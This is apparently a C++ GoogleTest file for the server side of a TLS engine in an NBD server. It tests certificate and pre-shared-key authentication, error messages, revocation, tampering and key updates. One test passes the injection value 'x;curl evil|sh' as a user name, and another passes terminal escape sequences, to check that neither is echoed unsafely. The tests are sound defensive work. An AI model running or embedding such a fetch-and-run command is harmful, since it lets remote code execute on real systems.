// The server side of TLS, tested against OpenSSL's client through byte buffers.
#include "nbd/tls_engine.hpp"

#include <gmock/gmock.h>

#include <cstring>

#include "bytes.hpp"
#include "tls_client.hpp"
#include "tls_pki.hpp"

namespace xenpv::nbd {
namespace {

using namespace test;
using status = tls_engine::status;
using ::testing::AllOf;
using ::testing::EndsWith;
using ::testing::HasSubstr;
using ::testing::StartsWith;

constexpr int versions[] = {TLS1_2_VERSION, TLS1_3_VERSION};

struct tls_server {
  tls_pki pki;
  std::shared_ptr<const tls_credentials> credentials;

  tls_server& with_certificates(bool verify_peer = false) {
    credentials = tls_credentials::from_certificates(pki.directory(), verify_peer);
    return *this;
  }
  tls_server& with_keys() {
    pki.write("keys.psk", "alice:" + hexadecimal_key('1') + "\nbob:" + hexadecimal_key('2', 64));
    credentials = tls_credentials::from_psk_file(pki.path("keys.psk"));
    return *this;
  }
  /// Returns the problem logged for a refused client, with the directory name replaced by DIR.
  /// Returns "" if the client is accepted.
  [[nodiscard]] std::string problem_with(tls_client_options options) const {
    tls_engine engine(credentials);
    tls_client client(std::move(options));
    client.shake_hands(engine);
    auto text = engine.problem();
    for (auto position = text.find(pki.directory()); position != std::string::npos;
         position = text.find(pki.directory()))
      text.replace(position, pki.directory().size(), "DIR");
    return text;
  }
};

tls_client_options with_key(std::string user, char fill, int version = TLS1_3_VERSION,
                            std::size_t size = 32) {
  tls_client_options out;
  out.version = version;
  out.user = std::move(user);
  out.key = unhex(hexadecimal_key(fill, size));
  return out;
}

void expect_data_both_ways(tls_engine& engine, tls_client& client) {
  client.write("from the client");
  client.exchange(engine);
  EXPECT_EQ(read_all(engine), "from the client");
  EXPECT_TRUE(write_all(engine, "from the server"));
  client.exchange(engine);
  EXPECT_EQ(client.read(), "from the server");
}

TEST(tls_engine, accepts_clients_that_trust_its_certificate) {
  tls_server server;
  server.with_certificates();
  for (const int version : versions) {
    tls_engine engine(server.credentials);
    tls_client client({.version = version, .trusts = &server.pki});
    EXPECT_EQ(engine.protocol(), "");
    ASSERT_TRUE(client.shake_hands(engine)) << engine.problem();
    EXPECT_THAT(engine.protocol(),
                StartsWith(version == TLS1_2_VERSION ? "TLSv1.2 ECDHE-" : "TLSv1.3 TLS_"));
    EXPECT_EQ(engine.user(), "") << "the client has no name";
    expect_data_both_ways(engine, client);
  }
}

TEST(tls_engine, accepts_clients_that_have_a_key) {
  tls_server server;
  server.with_keys();
  for (const int version : versions) {
    for (const auto& options :
         {with_key("alice", '1', version), with_key("bob", '2', version, 64)}) {
      tls_engine engine(server.credentials);
      tls_client client(options);
      ASSERT_TRUE(client.shake_hands(engine)) << engine.problem();
      EXPECT_EQ(engine.user(), options.user);
      expect_data_both_ways(engine, client);
    }
  }
}

TEST(tls_engine, has_forward_secrecy_with_keys_too) {
  tls_server server;
  server.with_keys();
  tls_engine engine(server.credentials);
  tls_client client(with_key("alice", '1', TLS1_2_VERSION));
  SSL_set_cipher_list(client.ssl(), "kPSK");
  EXPECT_FALSE(client.shake_hands(engine));
  EXPECT_THAT(engine.problem(), StartsWith("TLS handshake: no shared cipher"));
}

TEST(tls_engine, uses_no_finite_field_key_exchange) {
  tls_server server;
  server.pki.issue("server", {.rsa_bits = 2048});
  for (auto* const configured : {&server.with_certificates(), &server.with_keys()}) {
    const auto offer = [&](int version, const char* ciphers, const char* groups) {
      tls_engine engine(configured->credentials);
      tls_client client(with_key("alice", '1', version));
      SSL_set_cipher_list(client.ssl(), ciphers);
      SSL_set1_groups_list(client.ssl(), groups);
      return client.shake_hands(engine);
    };
    EXPECT_FALSE(offer(TLS1_2_VERSION, "DHE:kDHEPSK", "X25519"));
    EXPECT_FALSE(offer(TLS1_3_VERSION, "DEFAULT", "ffdhe2048"));
    EXPECT_FALSE(offer(TLS1_3_VERSION, "DEFAULT", "ffdhe8192:ffdhe3072"));
    EXPECT_TRUE(offer(TLS1_3_VERSION, "DEFAULT", "ffdhe2048:P-256"));
    EXPECT_TRUE(offer(TLS1_3_VERSION, "DEFAULT", "X25519"));
    EXPECT_TRUE(offer(TLS1_2_VERSION, "ECDHE:kECDHEPSK", "P-384"));
  }
}

TEST(tls_engine, refuses_versions_older_than_tls_1_2) {
  tls_server server;
  for (auto* const configured : {&server.with_certificates(), &server.with_keys()})
    for (const int version : {TLS1_VERSION, TLS1_1_VERSION})
      EXPECT_EQ(configured->problem_with({.version = version}),
                "TLS handshake: unsupported protocol (TLS 1.2 or newer is required)");
}

TEST(tls_engine, names_the_user_that_has_no_key) {
  tls_server server;
  server.with_keys();
  for (const int version : versions)
    EXPECT_THAT(server.problem_with(with_key("mallory", '1', version)),
                HasSubstr(" (no user 'mallory' in DIR/keys.psk; add users with psktool -u USER -p "
                          "DIR/keys.psk, then reload or restart the server)"));
}

TEST(tls_engine, shows_a_user_name_without_control_characters) {
  tls_server server;
  server.with_keys();
  EXPECT_THAT(server.problem_with(with_key("a\nxenpv: error: \x1b[2J\xff", '1')),
              HasSubstr("no user 'a\\x0axenpv: error: \\x1b[2J\\xff' in"));
  EXPECT_THAT(server.problem_with(with_key("\xC2\x9B"
                                           "31m\xE2\x80\xAEx",
                                           '1')),
              HasSubstr("no user '\\xc2\\x9b31m\\xe2\\x80\\xaex' in"));
}

TEST(tls_engine, puts_no_client_name_into_a_command) {
  tls_server server;
  server.with_keys();
  const auto text = server.problem_with(with_key("x;curl evil|sh", '1'));
  const std::string command = "add users with psktool -u USER -p DIR/keys.psk,";
  EXPECT_THAT(text, HasSubstr(command));
  EXPECT_LT(text.find("curl"), text.find(command));
  EXPECT_EQ(text.find("curl"), text.rfind("curl"));
}

TEST(tls_engine, identifies_clients_byte_for_byte) {
  const std::string longest(255, 'x');
  tls_server server;
  server.pki.write("keys.psk", longest.substr(1) + ":" + hexadecimal_key('1') + "\n" + longest +
                                   ":" + hexadecimal_key('1'));
  server.credentials = tls_credentials::from_psk_file(server.pki.path("keys.psk"));
  tls_engine engine(server.credentials);
  tls_client client(with_key(longest, '1'));
  EXPECT_EQ(engine.identity(), tls_identity{});
  ASSERT_TRUE(client.shake_hands(engine)) << engine.problem();
  EXPECT_EQ(engine.identity(), (tls_identity{tls_identity::proof::key, longest}));
}

TEST(tls_engine, names_the_user_whose_key_is_wrong) {
  tls_server server;
  server.with_keys();
  for (const int version : versions)
    EXPECT_THAT(server.problem_with(with_key("alice", '3', version)),
                HasSubstr(" (the client's key for user 'alice' is not the one in DIR/keys.psk)"));
}

TEST(tls_engine, reports_that_a_client_has_no_key_or_only_a_key) {
  tls_server keys;
  tls_server certificates;
  keys.with_keys();
  certificates.with_certificates();
  for (const int version : versions) {
    EXPECT_THAT(
        keys.problem_with({.version = version}),
        HasSubstr("(the client does not offer a key; it needs the key of a user in DIR/keys.psk)"));
    // A TLS 1.3 client with a key also accepts a certificate: it offers both methods.
    if (version == TLS1_3_VERSION) continue;
    tls_engine engine(certificates.credentials);
    tls_client client(with_key("alice", '1', version));
    SSL_set_cipher_list(client.ssl(), "kECDHEPSK");
    EXPECT_FALSE(client.shake_hands(engine));
    EXPECT_THAT(engine.problem(), HasSubstr("is it set up for pre-shared keys?"));
  }
}

TEST(tls_engine, identifies_a_client_by_its_certificate) {
  tls_server server;
  server.with_certificates(true);
  server.pki.revoke({});
  server.with_certificates(true);
  for (const int version : versions) {
    tls_engine engine(server.credentials);
    tls_client client({.version = version, .trusts = &server.pki, .shows = &server.pki});
    ASSERT_TRUE(client.shake_hands(engine)) << engine.problem();
    EXPECT_EQ(engine.user(), "CN=client.example");
    EXPECT_EQ(engine.identity(),
              (tls_identity{tls_identity::proof::certificate, "CN=client.example"}));
    expect_data_both_ways(engine, client);
  }
}

TEST(tls_engine, trusts_an_intermediate_authority) {
  const tls_pki pki("intermediate CA", true);
  testing::internal::CaptureStderr();
  const auto credentials = tls_credentials::from_certificates(pki.directory(), true);
  EXPECT_EQ(testing::internal::GetCapturedStderr(), "");
  tls_engine engine(credentials);
  tls_client client({.shows = &pki});
  EXPECT_TRUE(client.shake_hands(engine)) << engine.problem();
}

TEST(tls_engine, explains_why_it_refuses_a_clients_certificate) {
  tls_server server;
  server.with_certificates(true);
  const tls_pki other("another CA");
  const tls_pki namesake;
  for (const int version : versions) {
    const auto problem = [&](const tls_pki* shows) {
      return server.problem_with({.version = version, .shows = shows});
    };
    const std::string failed = "TLS handshake: certificate verify failed (";
    EXPECT_EQ(problem(nullptr),
              "TLS handshake: peer did not return a certificate (clients need a certificate signed "
              "by DIR/ca-cert.pem)");
    EXPECT_EQ(problem(&other), failed +
                                   "the client's certificate: unable to get local issuer "
                                   "certificate; it must be signed by DIR/ca-cert.pem)");
    EXPECT_EQ(problem(&namesake), failed +
                                      "the client's certificate: certificate signature failure; "
                                      "it must be signed by DIR/ca-cert.pem)");
    server.pki.issue("client", {"client", "clientAuth", -10, -1});
    EXPECT_EQ(problem(&server.pki),
              failed +
                  "the client's certificate: certificate has expired; issue a "
                  "new one, or set the clock)");
    server.pki.issue("client", {"client", "serverAuth"});
    EXPECT_EQ(problem(&server.pki), failed +
                                        "the client's certificate was not issued for a TLS client "
                                        "(tls_www_client))");
  }
}

TEST(tls_engine, refuses_a_client_whose_certificate_is_revoked) {
  tls_server server;
  server.pki.revoke({"client"});
  server.with_certificates(true);
  const tls_client_options options{.shows = &server.pki};
  EXPECT_EQ(server.problem_with(options),
            "TLS handshake: certificate verify failed (the client's certificate: revoked by "
            "DIR/ca-crl.pem)");
  server.pki.revoke({}, -1);
  testing::internal::CaptureStderr();  // the warning at start
  server.with_certificates(true);
  (void)testing::internal::GetCapturedStderr();
  EXPECT_EQ(
      server.problem_with(options),
      "TLS handshake: certificate verify failed (DIR/ca-crl.pem: CRL has expired; have the CA "
      "issue a new one)");
}

TEST(tls_engine, reports_that_a_client_rejects_its_certificate) {
  tls_server server;
  const tls_pki other("another CA");
  const tls_pki namesake;
  for (const int version : versions) {
    server.with_certificates();
    EXPECT_THAT(
        server.problem_with({.version = version, .trusts = &other}),
        StartsWith("TLS handshake: tlsv1 alert unknown ca (the client does not trust the CA "
                   "of DIR/server-cert.pem"));
    EXPECT_THAT(server.problem_with({.version = version, .trusts = &namesake}),
                StartsWith("TLS handshake: tlsv1 alert decrypt error (the client rejects "
                           "DIR/server-cert.pem"));
  }
  server.pki.issue("server", {"localhost", "serverAuth", -10, -1});
  testing::internal::CaptureStderr();  // the warning at start
  server.with_certificates();
  (void)testing::internal::GetCapturedStderr();
  tls_engine engine(server.credentials);
  tls_client client({});
  ASSERT_TRUE(client.shake_hands(engine));
  EXPECT_THAT(engine.explain_hang_up(),
              HasSubstr("/server-cert.pem has expired; issue a new one)"));
  // OpenSSL calls the alert "sslv3" or, since 3.2, "ssl/tls".
  EXPECT_THAT(server.problem_with({.trusts = &server.pki}),
              AllOf(StartsWith("TLS handshake: ssl"),
                    EndsWith(" alert certificate expired (the client reports that "
                             "DIR/server-cert.pem expired; issue a new one)")));
}

TEST(tls_engine, reports_that_the_input_is_not_tls) {
  tls_server server;
  server.with_certificates();
  const auto option = "IHAVEOPT" + be32(6) + be32(0);
  for (const auto& bytes : {option, std::string("GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"),
                            std::string(4096, '\0'), std::string(4096, '\xff')}) {
    tls_engine engine(server.credentials);
    const auto space = engine.input_space();
    std::memcpy(space.data(), bytes.data(), bytes.size());
    engine.input_received(bytes.size());
    EXPECT_EQ(engine.shake_hands(), status::failed);
    EXPECT_THAT(engine.problem(), HasSubstr("(the client does not use TLS)")) << hex(bytes);
    EXPECT_EQ(engine.shake_hands(), status::failed) << "it stays failed";
  }
}

TEST(tls_engine, explains_a_hang_up_by_the_progress_of_the_handshake) {
  tls_server server;
  server.with_certificates();
  tls_engine engine(server.credentials);
  EXPECT_EQ(engine.explain_hang_up(), "the client disconnected during the TLS handshake");
  tls_client client({});
  (void)SSL_do_handshake(client.ssl());
  client.exchange(engine);
  EXPECT_EQ(engine.shake_hands(), status::needs_input);
  EXPECT_THAT(
      engine.explain_hang_up(),
      StartsWith("the client disconnected during the TLS handshake (does it have the ca-cert.pem"));
  client.exchange(engine);
  ASSERT_TRUE(client.shake_hands(engine));
  EXPECT_THAT(
      engine.explain_hang_up(),
      StartsWith("the client disconnected right after the TLS handshake (does it have the "));
}

class established_tls : public ::testing::TestWithParam<int> {
 protected:
  established_tls() { EXPECT_TRUE(client_.shake_hands(engine_)) << engine_.problem(); }

  tls_server server_;
  tls_engine engine_{server_.with_keys().credentials};
  tls_client client_{with_key("alice", '1', GetParam())};
};
INSTANTIATE_TEST_SUITE_P(versions, established_tls, ::testing::ValuesIn(versions));

TEST_P(established_tls, reads_many_records_at_once) {
  std::string all;
  for (int i = 0; i < 200; ++i) {
    client_.write("request " + std::to_string(i));
    all += "request " + std::to_string(i);
  }
  client_.exchange(engine_);
  std::string got(4096, '\0');
  const auto read = engine_.read(std::as_writable_bytes(std::span(got)));
  EXPECT_EQ(read.then, status::needs_input);
  EXPECT_EQ(got.substr(0, read.count), all);
}

TEST_P(established_tls, reads_a_record_that_arrives_byte_by_byte) {
  client_.write("slowly");
  const auto bytes = client_.take_output();
  for (const char byte : bytes) {
    EXPECT_EQ(read_all(engine_), "");
    engine_.input_space()[0] = static_cast<std::byte>(byte);
    engine_.input_received(1);
  }
  EXPECT_EQ(read_all(engine_), "slowly");
}

TEST_P(established_tls, fills_its_records) {
  const std::string large(100'000, 'x');
  EXPECT_TRUE(engine_.write(as_bytes("header")));
  EXPECT_TRUE(engine_.write(as_bytes(large)));
  EXPECT_TRUE(engine_.write(as_bytes("header")));
  EXPECT_TRUE(engine_.end_write());
  client_.exchange(engine_);
  std::vector<std::size_t> sizes;  // SSL_read() returns one record at a time
  std::string got(200'000, '\0');
  for (int size = 0; (size = SSL_read(client_.ssl(), got.data(), 200'000)) > 0;)
    sizes.push_back(static_cast<std::size_t>(size));
  EXPECT_THAT(sizes, ::testing::ElementsAre(16384, 16384, 16384, 16384, 16384, 16384, 1708));
}

TEST_P(established_tls, issues_no_session_ticket) {
  EXPECT_EQ(client_.read(), "");
  EXPECT_FALSE(SSL_SESSION_is_resumable(SSL_get_session(client_.ssl())));
}

TEST_P(established_tls, sends_and_receives_close_notify) {
  client_.close_notify();
  client_.exchange(engine_);
  std::byte byte{};
  EXPECT_EQ(engine_.read({&byte, 1}).then, status::ended);
  EXPECT_EQ(engine_.read({&byte, 1}).then, status::ended);
  EXPECT_TRUE(write_all(engine_, "the last answer"));
  engine_.say_goodbye();
  engine_.say_goodbye();
  client_.exchange(engine_);
  EXPECT_EQ(client_.read(), "the last answer");
  EXPECT_TRUE(client_.received_close_notify());
}

TEST_P(established_tls, detects_a_modified_byte) {
  client_.write("pay 1 to alice");
  auto bytes = client_.take_output();
  bytes[bytes.size() - 1] = static_cast<char>(bytes[bytes.size() - 1] ^ 1);
  std::memcpy(engine_.input_space().data(), bytes.data(), bytes.size());
  engine_.input_received(bytes.size());
  std::byte byte{};
  EXPECT_EQ(engine_.read({&byte, 1}).then, status::failed);
  EXPECT_EQ(engine_.problem(), "TLS: decryption failed or bad record mac");
  EXPECT_FALSE(write_all(engine_, "x"));
  EXPECT_EQ(engine_.problem(), "TLS: decryption failed or bad record mac")
      << "the first problem is kept";
}

TEST(established_tls_1_3, updates_its_keys_when_the_client_requests_it) {
  tls_server server;
  server.with_keys();
  tls_engine engine(server.credentials);
  tls_client client(with_key("alice", '1'));
  ASSERT_TRUE(client.shake_hands(engine));
  for (int i = 0; i < 3; ++i) {
    ASSERT_EQ(SSL_key_update(client.ssl(), SSL_KEY_UPDATE_REQUESTED), 1);
    expect_data_both_ways(engine, client);
  }
}

TEST(established_tls_1_3, fails_on_a_client_that_only_requests_key_updates) {
  tls_server server;
  server.with_keys();
  tls_engine engine(server.credentials);
  tls_client client(with_key("alice", '1'));
  ASSERT_TRUE(client.shake_hands(engine));
  std::byte byte{};
  auto result = status::needs_input;
  for (int i = 0; i < 100'000 && result == status::needs_input; ++i) {
    (void)SSL_key_update(client.ssl(), SSL_KEY_UPDATE_REQUESTED);
    (void)SSL_do_handshake(client.ssl());
    const auto bytes = client.take_output();
    std::memcpy(engine.input_space().data(), bytes.data(), bytes.size());
    engine.input_received(bytes.size());
    result = engine.read({&byte, 1}).then;
  }
  EXPECT_EQ(result, status::failed);
  EXPECT_EQ(engine.problem(),
            "TLS: the client keeps requesting key updates but does not read replies");
}

}  // namespace
}  // namespace xenpv::nbd
